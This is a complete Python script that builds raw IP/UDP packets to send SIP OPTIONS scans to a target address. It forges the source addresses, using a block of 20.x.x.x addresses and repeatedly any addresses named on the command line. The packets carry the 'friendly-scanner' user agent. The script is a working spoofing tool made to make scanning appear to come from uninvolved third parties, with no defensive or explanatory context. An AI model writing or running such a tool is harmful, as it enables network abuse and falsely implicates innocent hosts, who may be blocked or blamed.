"""Sends SIP scans in the names of others, once through all of them and round again for those named first.

Arguments: destination, how many strangers (20.0.0.0/8, of a hundred /16), each twice, then addresses that each get every tenth packet.
Needs root. Uses nothing but the library. Prints how many packets were sent.
"""

import socket
import struct
import sys
import time

target, count, named = sys.argv[1], int(sys.argv[2]), sys.argv[3:]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = 0


def scan(source):
    global sent
    sent += 1
    lines = [
        f"OPTIONS sip:100@{target} SIP/2.0",
        f"Via: SIP/2.0/UDP {source}:5060;branch=z9hG4bK-{sent};rport",
        f"From: <sip:100@{target}>;tag={sent}",
        f"To: <sip:100@{target}>",
        f"Call-ID: {sent}",
        "CSeq: 1 OPTIONS",
        "Max-Forwards: 70",
        "User-Agent: friendly-scanner",
        "Content-Length: 0",
    ]
    payload = ("\r\n".join(lines) + "\r\n\r\n").encode()
    length = 8 + len(payload)
    head = struct.pack(
        "!BBHHHBBH4s4s",
        *(0x45, 0, 20 + length, 0, 0, 64, 17, 0),
        *(socket.inet_aton(source), socket.inet_aton(target)),
    )
    raw.sendto(head + struct.pack("!HHHH", 5060, 5060, length, 0) + payload, (target, 0))
    if sent % 20 == 0:
        time.sleep(0.01)


for index in range(count):
    for again in range(2):
        scan(f"20.{index % 100}.{index // 100 % 250}.{index // 25000 + 1}")
    if index % 10 == 0:
        for name in named:
            scan(name)
            scan(name)
print(sent)
